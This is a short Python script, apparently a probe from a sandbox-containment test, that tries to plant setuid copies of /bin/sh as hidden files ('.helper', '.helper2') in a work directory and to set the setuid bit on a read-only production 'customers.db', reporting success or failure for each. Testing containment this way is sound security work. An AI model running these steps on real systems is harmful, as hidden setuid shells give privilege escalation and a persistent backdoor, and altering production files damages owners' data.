# setuid-plant (Python): create a file setuid from the start (os.open with
# mode 0o4755), chmod another, and chmod u+s a read-only bound one.
import os, shutil, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

def attempt(what, fn):
    try:
        fn()
        print(what, "done")
    except OSError as e:
        print(what, e)

def create():
    fd = os.open(os.path.join(T["T_WORK"], ".helper"), os.O_CREAT | os.O_WRONLY, 0o4755)
    os.write(fd, open("/bin/sh", "rb").read())
    os.close(fd)

def copy_chmod():
    p = shutil.copy("/bin/sh", os.path.join(T["T_WORK"], ".helper2"))
    os.chmod(p, 0o4755)

attempt("create", create)
attempt("chmod", copy_chmod)
attempt("read-only", lambda: os.chmod(os.path.join(T["T_PROD"], "customers.db"), 0o4644))
